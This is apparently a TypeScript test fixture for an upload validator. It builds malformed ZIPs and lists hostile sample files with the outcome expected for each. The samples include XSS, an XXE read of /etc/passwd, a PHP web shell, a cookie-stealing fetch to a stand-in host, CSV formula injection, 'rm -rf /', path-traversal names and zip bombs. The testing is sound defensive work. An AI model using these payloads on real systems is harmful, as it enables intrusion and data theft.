import { crc32, deflateRawSync } from 'node:zlib';
import { pdf } from './submission.ts';

export type HostileFile = { name: string; content: Buffer; what: string; expected: 'taken' | Refused };
export type Refused = 'type' | 'size' | 'empty' | 'protected';

export type Entry = {
  name: string;
  content: Buffer | string;
  flags?: number;
  /** The size that it declares. */
  unpacked?: number;
  /** Compression, 8 as all but hostile ones. */
  method?: number;
  /** Of Unix: `0o120777` is a link. */
  mode?: number;
  checksum?: number;
};

/** A ZIP file of `entries`, with what a hostile one would declare. */
export function zip(
  entries: readonly Entry[],
  { truncated = 0, declared }: { truncated?: number; declared?: number } = {},
): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let at = 0;
  for (const { name, content, flags = 0, unpacked, method = 8, mode, checksum } of entries) {
    const plain = Buffer.from(content);
    const packed = deflateRawSync(plain);
    const size = unpacked ?? plain.length;
    const title = Buffer.from(name);
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(flags, 2);
    common.writeUInt16LE(method, 4);
    common.writeUInt32LE(checksum ?? crc32(plain), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(size, 18);
    common.writeUInt16LE(title.length, 22);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004'), common, title, packed]);
    const rest = Buffer.alloc(14);
    if (mode !== undefined) rest.writeUInt32LE((mode << 16) >>> 0, 6);
    rest.writeUInt32LE(at, 10);
    const maker = Buffer.from([20, mode === undefined ? 0 : 3]);
    directory.push(Buffer.concat([Buffer.from('PK\u0001\u0002'), maker, common, rest, title]));
    locals.push(local);
    at += local.length;
  }
  const listing = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(declared ?? entries.length, 8);
  end.writeUInt16LE(declared ?? entries.length, 10);
  end.writeUInt32LE(listing.length, 12);
  end.writeUInt32LE(at, 16);
  const whole = Buffer.concat([...locals, listing, end]);
  return whole.subarray(0, whole.length - truncated);
}

const png = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d494844520000000100000001080600000', 'hex'),
  Buffer.from('1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082', 'hex'),
]);
const jpg = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(200, 7),
  Buffer.from('ffd9', 'hex'),
]);
const webp = Buffer.concat([Buffer.from('RIFF\u0024\0\0\0WEBPVP8 '), Buffer.alloc(40)]);
const mp4 = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypisom\0\0\u0002\0isomiso2'), Buffer.alloc(200)]);
const mp3 = Buffer.concat([Buffer.from('ID3\u0004\0\0\0\0\0\0'), Buffer.from('fffb9064', 'hex'), Buffer.alloc(1000)]);
const html = Buffer.from('<!doctype html><script>alert(document.domain)</script>');
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
const eicar = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
const contentTypes = { name: '[Content_Types].xml', content: '<Types/>' };
const docx = zip([contentTypes, { name: 'word/document.xml', content: '<w:document/>' }]);
const xlsx = zip([contentTypes, { name: 'xl/workbook.xml', content: '<workbook/>' }]);
const compound = (text: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(1500),
    Buffer.from(text, 'utf16le'),
    Buffer.alloc(500),
  ]);
const encryptedPdf = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt 5 0 R >>\n%%EOF\n');

/** Files as an attacker, or an unlucky person, would send them, and what becomes of each. Content decides; the name never does. */
export const hostileFiles: readonly HostileFile[] = [
  { what: 'a PDF', name: 'a.pdf', content: pdf(), expected: 'taken' },
  { what: 'a PNG', name: 'a.png', content: png, expected: 'taken' },
  { what: 'a JPEG', name: 'a.jpg', content: jpg, expected: 'taken' },
  { what: 'a WebP', name: 'a.webp', content: webp, expected: 'taken' },
  { what: 'an MP4', name: 'a.mp4', content: mp4, expected: 'taken' },
  { what: 'an MP3', name: 'a.mp3', content: mp3, expected: 'taken' },
  { what: 'a DOCX', name: 'a.docx', content: docx, expected: 'taken' },
  { what: 'an XLSX', name: 'a.xlsx', content: xlsx, expected: 'taken' },
  { what: 'a ZIP', name: 'a.zip', content: zip([{ name: 'a.txt', content: 'x' }]), expected: 'taken' },
  { what: 'a PDF named as a program', name: 'a.exe', content: pdf(), expected: 'taken' },
  { what: 'a PDF with two endings', name: 'a.pdf.php', content: pdf(), expected: 'taken' },
  { what: 'a PDF with NUL in its name', name: 'a\u0000.pdf', content: pdf(), expected: 'taken' },
  { what: 'a PDF with a name that reads backwards', name: 'informe\u202efdp.exe', content: pdf(), expected: 'taken' },
  { what: 'a PDF with a path in its name', name: '../../../etc/passwd', content: pdf(), expected: 'taken' },
  { what: 'a PDF with a Windows path in its name', name: 'C:\\windows\\a.pdf', content: pdf(), expected: 'taken' },
  { what: 'a PDF with a very long name', name: `${'ñ'.repeat(900)}.pdf`, content: pdf(), expected: 'taken' },
  {
    what: 'a PDF with a script inside: kept sealed, for the staff only',
    name: 'a.pdf',
    content: pdf('/JS (app.alert(1))'),
    expected: 'taken',
  },
  { what: 'a PDF that speaks of /Encrypt', name: 'a.pdf', content: pdf('the word /Encrypt alone'), expected: 'taken' },
  { what: 'a truncated PDF: still evidence', name: 'a.pdf', content: pdf().subarray(0, 40), expected: 'taken' },
  {
    what: 'a PDF with a ZIP after it: a PDF to us',
    name: 'a.pdf',
    content: Buffer.concat([pdf(), zip([{ name: 'a', content: 'x' }])]),
    expected: 'taken',
  },
  {
    what: 'a JPEG with HTML after it: a JPEG to us',
    name: 'a.jpg',
    content: Buffer.concat([jpg, html]),
    expected: 'taken',
  },
  { what: 'an empty file', name: 'a.pdf', content: Buffer.alloc(0), expected: 'empty' },
  { what: 'one byte', name: 'a.pdf', content: Buffer.from([0]), expected: 'type' },
  { what: 'HTML named PDF', name: 'a.pdf', content: html, expected: 'type' },
  { what: 'SVG', name: 'a.svg', content: svg, expected: 'type' },
  { what: 'SVG named PNG', name: 'a.png', content: svg, expected: 'type' },
  { what: 'HTML with a PDF after it', name: 'a.pdf', content: Buffer.concat([html, pdf()]), expected: 'type' },
  { what: 'a script for the shell', name: 'a.pdf', content: Buffer.from('#!/bin/sh\nrm -rf /\n'), expected: 'type' },
  {
    what: 'a program for Windows',
    name: 'a.pdf',
    content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]),
    expected: 'type',
  },
  {
    what: 'a program for Linux',
    name: 'a.jpg',
    content: Buffer.concat([Buffer.from('\u007fELF\u0002\u0001\u0001'), Buffer.alloc(100)]),
    expected: 'type',
  },
  { what: 'a GIF', name: 'a.gif', content: Buffer.from('GIF89a\u0001\0\u0001\0\0\0\0;'), expected: 'type' },
  { what: 'a GIF that is also a script', name: 'a.jpg', content: Buffer.from('GIF89a=1;alert(1)//'), expected: 'type' },
  {
    what: 'a TAR',
    name: 'a.zip',
    content: Buffer.concat([Buffer.alloc(257), Buffer.from('ustar\u000000'), Buffer.alloc(247)]),
    expected: 'type',
  },
  { what: 'a GZIP', name: 'a.zip', content: Buffer.from('1f8b0800000000000003030000000000', 'hex'), expected: 'type' },
  { what: 'a RAR', name: 'a.zip', content: Buffer.from('Rar!\u001a\u0007\u0001\0'), expected: 'type' },
  {
    what: 'XML',
    name: 'a.docx',
    content: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    expected: 'type',
  },
  { what: 'plain text', name: 'a.txt', content: Buffer.from('Texto sencillo'), expected: 'type' },
  { what: 'PHP named JPEG', name: 'a.php.jpg', content: Buffer.from('<?php system($_GET[0]);'), expected: 'type' },
  { what: 'JavaScript', name: 'a.js', content: Buffer.from('fetch("//e.example?"+document.cookie)'), expected: 'type' },
  {
    what: 'a table that begins a formula',
    name: 'a.csv',
    content: Buffer.from("=cmd|' /C calc'!A0"),
    expected: 'type',
  },
  { what: 'RTF', name: 'a.docx', content: Buffer.from('{\\rtf1\\ansi{\\object\\objautlink}}'), expected: 'type' },
  { what: 'PostScript', name: 'a.pdf', content: Buffer.from('%!PS-Adobe-3.0\n(%pipe%id) (w) file'), expected: 'type' },
  { what: 'WebAssembly', name: 'a.zip', content: Buffer.from('0061736d01000000', 'hex'), expected: 'type' },
  { what: 'a Java class', name: 'a.zip', content: Buffer.from('cafebabe0000003400000000', 'hex'), expected: 'type' },
  {
    what: 'a Windows shortcut',
    name: 'a.pdf',
    content: Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    expected: 'type',
  },
  { what: 'a database', name: 'a.xlsx', content: Buffer.from('SQLite format 3\0'), expected: 'type' },
  { what: 'a bitmap', name: 'a.png', content: Buffer.from('424d3a0000000000000036000000', 'hex'), expected: 'type' },
  {
    what: 'HTML behind a byte order mark',
    name: 'a.pdf',
    content: Buffer.concat([Buffer.from('efbbbf', 'hex'), html]),
    expected: 'type',
  },
  { what: 'EICAR, which is text', name: 'eicar.pdf', content: eicar, expected: 'type' },
  { what: 'zeros', name: 'a.mp4', content: Buffer.alloc(100_000), expected: 'type' },
  {
    what: 'a truncated ZIP',
    name: 'a.zip',
    content: zip([{ name: 'a', content: 'x'.repeat(500) }], { truncated: 30 }),
    expected: 'type',
  },
  {
    what: 'a ZIP that declares more than it holds',
    name: 'a.zip',
    content: zip([{ name: 'a', content: 'x' }], { declared: 9 }),
    expected: 'type',
  },
  { what: 'a ZIP of nothing', name: 'a.zip', content: zip([]), expected: 'type' },
  { what: 'only the beginning of a ZIP', name: 'a.docx', content: Buffer.from('PK\u0003\u0004'), expected: 'type' },
  {
    what: 'a document with macros',
    name: 'a.docx',
    content: zip([
      contentTypes,
      { name: 'word/document.xml', content: '' },
      { name: 'word/vbaProject.bin', content: 'x' },
    ]),
    expected: 'type',
  },
  { what: 'an old Office document', name: 'a.docx', content: compound('WordDocument'), expected: 'type' },
  {
    what: 'an encrypted Office document',
    name: 'a.docx',
    content: compound('EncryptedPackage'),
    expected: 'protected',
  },
  { what: 'an encrypted PDF', name: 'a.pdf', content: encryptedPdf, expected: 'protected' },
  {
    what: 'an encrypted ZIP',
    name: 'a.zip',
    content: zip([{ name: 'a', content: 'x', flags: 1 }]),
    expected: 'protected',
  },
  {
    what: 'a ZIP with one encrypted entry',
    name: 'a.zip',
    content: zip([
      { name: 'a', content: 'x' },
      { name: 'b', content: 'x', flags: 1 },
    ]),
    expected: 'protected',
  },
  {
    what: 'a ZIP bomb',
    name: 'a.zip',
    content: zip([{ name: 'a', content: Buffer.alloc(2_000_000), unpacked: 0xfffffff0 }]),
    expected: 'size',
  },
  {
    what: 'a ZIP bomb of many entries',
    name: 'a.zip',
    content: zip(Array.from({ length: 10_001 }, (_, at) => ({ name: String(at), content: '' }))),
    expected: 'size',
  },
  {
    what: 'more than the largest size',
    name: 'a.pdf',
    content: Buffer.concat([pdf(), Buffer.alloc(1_000_000)]),
    expected: 'size',
  },
];
